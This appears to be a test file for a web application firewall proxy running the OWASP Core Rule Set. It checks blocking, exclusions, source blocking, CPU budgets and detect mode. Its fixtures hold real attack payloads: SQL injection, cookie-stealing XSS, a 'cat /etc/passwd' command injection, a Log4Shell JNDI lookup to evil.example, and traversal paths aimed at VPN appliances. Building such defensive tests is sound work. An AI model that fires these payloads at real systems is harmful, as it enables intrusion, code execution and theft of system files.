/**
 * The WAF through `mamori up`: CRS at paranoia level 1 in front of an echo upstream. Attacks
 * in the query, a form body, JSON and a header are refused before the upstream sees them, with
 * an event and an audit line that name the rules and hide secrets; benign requests (GET, a
 * form, a 100 KB JSON document) reach the upstream byte for byte; an exclusion lets an editor
 * field through on its route only; a source that keeps tripping rules gets a block decision;
 * detect mode records and forwards.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ManualClock } from '../core/clock.js';
import { MemoryStore } from '../core/memory-store.js';
import { defaultConfig } from '../config/config.js';
import type { MamoriYaml } from '../config/yaml-types.js';
import { createGuard, type Guard } from '../guard/guard.js';
import { sharedData } from '../testing/shared-data.js';
import { startMamoriProxy } from './mamori-proxy.js';
import type { RunningProxy } from './http-proxy.js';
import { echoUpstream, rawExchange, request, statusOf } from './test-harness.js';

const SECRET = Buffer.alloc(32, 7);
const crs = sharedData('crs', 'MAMORI_CRS_DIR');
const libinjection = sharedData('libinjection', 'MAMORI_LIBINJECTION_DIR');
const skip = crs.missing ?? libinjection.missing;
const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', accept: 'text/html,application/xhtml+xml', 'accept-language': 'ja,en;q=0.8' };

/** Events recorded once an exchange is over (just after the client has its answer): waited for, a few seconds at most. */
async function eventsOf(guard: Guard, q: { action: string; sourceIp?: string }, atLeast: number) {
  for (let i = 0; ; i++) {
    const found = await guard.store.events.query(q);
    if (found.length >= atLeast || i >= 100) return found;
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** `cpuOnClock`: the process-wide second of rule time follows the manual clock too (else the machine's). */
async function setup(waf: MamoriYaml['waf'], extra: MamoriYaml = {}, cpuOnClock = false) {
  const dir = mkdtempSync(join(tmpdir(), 'mamori-waf-proxy-'));
  const up = await echoUpstream();
  const clock = new ManualClock();
  const guard = createGuard(
    defaultConfig({
      data_dir: dir,
      // No time budget unless a test sets one: the manual clock never ends the load-shed check's
      // second, so the whole suite's rule time would count as one second's (503 on a loaded machine).
      waf: { crs: crs.dir, libinjection: libinjection.dir, own_rules: true, cpu_budget: { per_source: 0 }, ...waf },
      logins: [{ name: 'login', path: '/login', username: { form: 'user' }, password: { form: 'pw' }, failure: { status: [401] }, success: { status: [302] } }],
      ...extra,
    }),
    { store: new MemoryStore({ clock }), secret: SECRET, clock, ...(cpuOnClock ? { waf: { cpuClock: () => clock.now() } } : {}) },
  );
  const proxy = await startMamoriProxy({ guard, upstream: up.url, trustedProxies: ['127.0.0.1/32'] });
  return {
    dir,
    up,
    clock,
    guard,
    proxy,
    async close() {
      await proxy.close();
      await up.close();
      await guard.close();
      await guard.store.close();
      rmSync(dir, { recursive: true, force: true });
    },
  };
}

describe('mamori proxy: the WAF with CRS (blocking, paranoia 1)', { skip }, () => {
  /** The WAF's block decisions on a source, waited for a few seconds at most (they are written after the answer). */
  const decisionsOn = async (ip: string) => {
    for (let i = 0; ; i++) {
      const n = (await s.guard.store.decisions.list({ origin: 'guard.waf' })).filter((d) => d.value === ip).length;
      if (n > 0 || i >= 100) return n;
      await new Promise((r) => setTimeout(r, 50));
    }
  };
  let s: Awaited<ReturnType<typeof setup>>;
  before(async () => {
    s = await setup(
      {
        exclusions: [
          { name: 'editor', paths: ['/wp-admin/post.php', '/editor/*'], methods: ['POST'], tags: ['attack-xss'], targets: ['ARGS:content'] },
          { name: 'ajax-save', paths: ['/wp-admin/admin-ajax.php'], methods: ['POST'], tags: ['attack-xss'], targets: ['ARGS:data'], args: { action: ['save-draft', 'autosave'] } },
        ],
        block_sources: { after: 3, window: '10m', block_for: '1h' },
        crs_settings: { allowed_methods: 'GET HEAD POST OPTIONS PUT' },
      },
      { rate_limits: [{ name: 'search', paths: ['/search'], per_source: { limit: 1000, window: '1m' } }, { name: 'reset', paths: ['/reset'], query: { action: ['lost'] }, per_source: { limit: 1000, window: '1m' } }] },
    );
  });
  after(() => s.close());

  const form = (path: string, body: string, ip = '203.0.113.10') =>
    request(`${s.proxy.url}${path}`, { method: 'POST', headers: { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': ip }, body });

  it('lets benign requests through unchanged: a page, a form, a 100 KB JSON document', async () => {
    const before = s.up.seen.length;
    const page = await request(`${s.proxy.url}/products?category=tea&sort=price`, { headers: { ...BROWSER, 'x-forwarded-for': '203.0.113.1' } });
    assert.equal(page.status, 200, page.body.toString());
    const body = 'name=Sato+Hanako&address=1-2-3+Chiyoda%2C+Tokyo&comment=It%27s+great%2C+thanks%21';
    const posted = await form('/contact', body, '203.0.113.1');
    assert.equal(posted.status, 200, posted.body.toString());
    const items = Array.from({ length: 220 }, (_, i) => ({ sku: `TEA-${i}`, name: `Sencha No. ${i}`, qty: (i % 5) + 1, note: `Gift wrap, please. A first-flush green tea from the hills of Shizuoka, steamed lightly and rolled by hand; brew at 70 degrees for one minute (${i}).`.repeat(2) }));
    const json = JSON.stringify({ order: { items, customer: { name: 'Suzuki Ichiro', email: 'ichiro@example.jp' } } });
    assert.ok(json.length > 60_000, String(json.length));
    const api = await request(`${s.proxy.url}/api/orders`, { method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json', 'user-agent': BROWSER['user-agent'], 'x-forwarded-for': '203.0.113.1' }, body: json });
    assert.equal(api.status, 200, api.body.toString());
    assert.equal(s.up.seen.length - before, 3);
    assert.equal(s.up.seen.at(-2)!.body.toString(), body, 'the form reaches the site byte for byte');
    assert.equal(s.up.seen.at(-1)!.body.toString(), json, 'and the JSON');
  });

  it('refuses attacks in the query, a form body, JSON and a header before the site sees them', async () => {
    const before = s.up.seen.length;
    const attacks = [
      request(`${s.proxy.url}/item?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--`, { headers: { ...BROWSER, 'x-forwarded-for': '198.51.100.1' } }),
      form('/comment', 'text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', '198.51.100.2'),
      request(`${s.proxy.url}/api/ping`, { method: 'POST', headers: { 'content-type': 'application/json', 'user-agent': BROWSER['user-agent'], accept: 'application/json', 'x-forwarded-for': '198.51.100.3' }, body: '{"host":"127.0.0.1; cat /etc/passwd"}' }),
      request(`${s.proxy.url}/`, { headers: { ...BROWSER, 'x-api-version': '${jndi:ldap://evil.example/a}', 'x-forwarded-for': '198.51.100.4' } }),
      request(`${s.proxy.url}/download?file=../../../../etc/passwd`, { headers: { ...BROWSER, 'x-forwarded-for': '198.51.100.5' } }),
    ];
    for (const r of await Promise.all(attacks)) assert.equal(r.status, 403, r.body.toString().slice(0, 200));
    assert.equal(s.up.seen.length, before, 'none reached the site');
    const events = await eventsOf(s.guard, { action: 'waf-blocked' }, 5);
    assert.ok(events.length >= 5);
    const sqli = events.find((e) => e['source.ip'] === '198.51.100.1')!;
    assert.equal(sqli['rule.id'], '949110');
    assert.match(sqli['mamori.waf.rules'] ?? '', /942\d{3}/);
    assert.equal(sqli['event.module'], 'guard.waf');
  });

  it('reads the body of a rate-limited route too (a limit that counts per source alone needs no body, the WAF does)', async () => {
    const before = s.up.seen.length;
    assert.equal((await form('/search', 'q=1%27+UNION+SELECT+password+FROM+users--', '198.51.100.30')).status, 403);
    assert.equal((await form('/reset?action=lost', 'user=%3Cscript%3Ealert(1)%3C%2Fscript%3E', '198.51.100.31')).status, 403);
    assert.equal(s.up.seen.length, before, 'neither reached the site');
    assert.equal((await form('/search', 'q=green+tea', '198.51.100.32')).status, 200);
  });

  it('writes an audit line per refused request, with passwords and card numbers masked', async () => {
    const r = await form('/login', 'user=admin%27--&pw=Sup3r-Secret-Passw0rd&card=4111111111111111&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E', '198.51.100.9');
    assert.equal(r.status, 403);
    await s.guard.close();
    const text = readFileSync(join(s.dir, 'waf-audit.jsonl'), 'utf8');
    assert.ok(!text.includes('Sup3r-Secret-Passw0rd'), 'the password is not in the audit log');
    assert.ok(!text.includes('4111111111111111'), 'nor the card number');
    const line = text
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { client: string; action: string; matched: { id: number }[]; uri: string })
      .find((l) => l.client === '198.51.100.9')!;
    assert.equal(line.action, 'blocked');
    assert.ok(line.matched.some((m) => m.id === 941100 || m.id === 941110));
  });

  it("takes CRS's own settings from the config (allowed_methods: PUT allowed, PATCH still refused)", async () => {
    const send = (method: string) => request(`${s.proxy.url}/api/items/1`, { method, headers: { ...BROWSER, 'content-type': 'application/json', 'x-forwarded-for': '203.0.113.70' }, body: '{"name":"tea"}' });
    assert.equal((await send('PUT')).status, 200);
    assert.equal((await send('PATCH')).status, 403);
  });

  it('applies an exclusion on its route and method only', async () => {
    const code = 'content=%3Cscript%3Ealert(1)%3C%2Fscript%3E&post_title=Hello';
    assert.equal((await form('/wp-admin/post.php', code, '192.0.2.50')).status, 200, 'the editor field passes on the editor route');
    assert.equal((await form('/wp-admin/other.php', code, '192.0.2.51')).status, 403, 'not on another route');
    assert.equal((await form('/editor/save', code, '192.0.2.54')).status, 200, 'a prefix exclusion covers what is under it');
    // Sent as written (a URL object would resolve the dots): the site would route these elsewhere.
    const port = Number(new URL(s.proxy.url).port);
    for (const path of ['/editor/../shop/comment', '/editor/./../admin', '/editor/%2e%2e/admin']) {
      const raw = `POST ${path} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${BROWSER['user-agent']}\r\nAccept: text/html\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${code.length}\r\nX-Forwarded-For: 192.0.2.52\r\nConnection: close\r\n\r\n${code}`;
      const status = statusOf((await rawExchange(port, raw)).text);
      assert.ok(status === 403 || status === 400, `no exclusion for ${path}: ${status}`);
    }
    assert.equal((await form('/wp-admin/post.php', 'post_title=%3Cscript%3Ealert(1)%3C%2Fscript%3E', '192.0.2.53')).status, 403, 'nor for another field');
  });

  it('applies an exclusion that names a parameter only when it is given once with one of its values', async () => {
    const data = 'data=%3Cscript%3Ealert(1)%3C%2Fscript%3E';
    const ajax = (query: string, body: string, ip: string) => form(`/wp-admin/admin-ajax.php${query}`, body, ip);
    assert.equal((await ajax('', `action=save-draft&${data}`, '192.0.2.60')).status, 200, 'the action named');
    assert.equal((await ajax('?action=autosave', data, '192.0.2.61')).status, 200, 'in the query too');
    assert.equal((await ajax('', `action=publish&${data}`, '192.0.2.62')).status, 403, 'another action');
    assert.equal((await ajax('', `action=save-draftx&${data}`, '192.0.2.63')).status, 403, 'a value that only starts like one');
    assert.equal((await ajax('', `action=save-draft&action=publish&${data}`, '192.0.2.64')).status, 403, 'the name twice (the app may read the other)');
    assert.equal((await ajax('?action=save-draft', `action=publish&${data}`, '192.0.2.65')).status, 403, 'in the query and the body');
    assert.equal((await ajax('', `ACTION=save-draft&action=publish&${data}`, '192.0.2.66')).status, 403, 'another case of the name counts');
    assert.equal((await ajax('', data, '192.0.2.67')).status, 403, 'without it');
  });

  it('blocks a source that keeps tripping rules, with a decision', async () => {
    const ip = '198.51.100.77';
    for (let i = 0; i < 3; i++) assert.equal((await form('/q', `q=1%27+or+1%3D1--+${i}`, ip)).status, 403);
    // The trip is counted once the exchange is over, just after the client has its answer.
    assert.equal(await decisionsOn(ip), 1);
    // Now even a benign request from it is refused, by the decision.
    const r = await request(`${s.proxy.url}/`, { headers: { ...BROWSER, 'x-forwarded-for': ip } });
    assert.equal(r.status, 403);
    assert.equal((await eventsOf(s.guard, { action: 'waf-source-blocked', sourceIp: ip }, 1)).length, 1);
  });

  it('records the exploit shapes the proxy refuses before any rule (a ../ traversal), and counts them against the source', async () => {
    const port = Number(new URL(s.proxy.url).port);
    const ip = '198.51.100.140';
    for (const path of ['/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/', '/vpn/../vpns/cfg/smb.conf', '/vpns/%2e%2e/portal/scripts/newbm.pl']) {
      const raw = `GET ${path} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${BROWSER['user-agent']}\r\nX-Forwarded-For: ${ip}\r\nConnection: close\r\n\r\n`;
      assert.equal(statusOf((await rawExchange(port, raw)).text), 400, path);
    }
    // The proxy records a refusal once the exchange is over, which may be just after the client saw
    // the connection close: wait for the three (or give up after a few seconds).
    const shapes = async () => (await s.guard.store.events.query({ action: 'waf-blocked', sourceIp: ip })).filter((e) => e['rule.id'] === 'proxy.request-shape');
    let events = await shapes();
    for (let i = 0; i < 100 && events.length < 3; i++) {
      await new Promise((r) => setTimeout(r, 50));
      await s.guard.close();
      events = await shapes();
    }
    assert.equal(events.length, 3);
    assert.match(events[0]!['event.reason'] ?? '', /dot segment/);
    // Three refusals with block_sources.after 3: the scanner is blocked.
    assert.equal(await decisionsOn(ip), 1);
  });

  it('refuses an ambiguous multipart body and a compressed one, which the site may read otherwise', async () => {
    const port = Number(new URL(s.proxy.url).port);
    const body = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--b\r\nContent-Disposition: form-data; name="b"; name="c"\r\n\r\n2\r\n--b--\r\n';
    const raw = `POST /upload HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${BROWSER['user-agent']}\r\nAccept: text/html\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`;
    assert.equal(statusOf((await rawExchange(port, raw)).text), 400);
    const gz = await request(`${s.proxy.url}/form`, { method: 'POST', headers: { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'gzip', 'x-forwarded-for': '203.0.113.60' }, body: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0]) });
    assert.equal(gz.status, 415);
  });
});

describe('mamori proxy: the WAF bounds the time one source takes', { skip }, () => {
  let s: Awaited<ReturnType<typeof setup>>;
  before(async () => {
    s = await setup({ cpu_budget: { per_source: '2s', window: '1m' } }, {}, true);
  });
  after(() => s.close());

  it('answers 429 to a source past its inspection time, without running the rules, and others go on', async () => {
    const body = 'text=ordinary+words';
    const post = (ip: string) => request(`${s.proxy.url}/form`, { method: 'POST', headers: { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': ip }, body });
    assert.equal((await post('203.0.113.90')).status, 200);
    // (The time the rules took is charged as they run; here it is charged at once, so that the
    // test does not depend on how fast this machine is.)
    s.guard.waf!.charge('203.0.113.90', 2_500);
    s.clock.advance(1000); // (a new second for the process-wide count; the source's minute goes on)
    const before = s.up.seen.length;
    const second = await post('203.0.113.90');
    assert.equal(second.status, 429);
    assert.equal(Number(second.headers['retry-after']), 60);
    assert.equal(s.up.seen.length, before);
    assert.equal((await post('203.0.113.91')).status, 200, 'another source is not held');
    // A plain page view from the same address (another user behind the same NAT) is still served.
    assert.equal((await request(`${s.proxy.url}/products?page=2`, { headers: { ...BROWSER, 'x-forwarded-for': '203.0.113.90' } })).status, 200);
    // A heavy head is not: it would cost the rules time the source has used up.
    assert.equal((await request(`${s.proxy.url}/products?${'q=tea&'.repeat(800)}`, { headers: { ...BROWSER, 'x-forwarded-for': '203.0.113.90' } })).status, 429);
    // Many sources, each within its budget, can fill the process's one thread: past 750 ms of
    // rule time in a second, costly requests from anyone are shed (503), page views still served.
    s.guard.waf!.charge('203.0.113.95', 800);
    const shed = await post('203.0.113.96');
    assert.equal(shed.status, 503);
    assert.equal(Number(shed.headers['retry-after']), 1);
    assert.equal((await request(`${s.proxy.url}/products?page=3`, { headers: { ...BROWSER, 'x-forwarded-for': '203.0.113.96' } })).status, 200);
    s.clock.advance(1000);
    assert.equal((await post('203.0.113.96')).status, 200, 'the next second, it is served again');
    // Budget refusals are no trips: the source gets no block decision for them.
    for (let i = 0; i < 12; i++) assert.equal((await post('203.0.113.90')).status, 429);
    assert.equal((await s.guard.store.decisions.list({ origin: 'guard.waf' })).length, 0);
  });
});

describe('mamori proxy: the WAF in detect mode', { skip }, () => {
  let s: Awaited<ReturnType<typeof setup>>;
  before(async () => {
    s = await setup({ mode: 'detect' });
  });
  after(() => s.close());

  it('records what it would refuse and lets it through', async () => {
    const before = s.up.seen.length;
    const r = await request(`${s.proxy.url}/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--`, { headers: { ...BROWSER, 'x-forwarded-for': '198.51.100.20' } });
    assert.equal(r.status, 200);
    assert.equal(s.up.seen.length, before + 1);
    const [e] = await eventsOf(s.guard, { action: 'waf-blocked' }, 1);
    assert.equal(e?.['mamori.detect_only'], true);
    assert.equal((await s.guard.store.decisions.list({ origin: 'guard.waf' })).length, 0);
  });
});
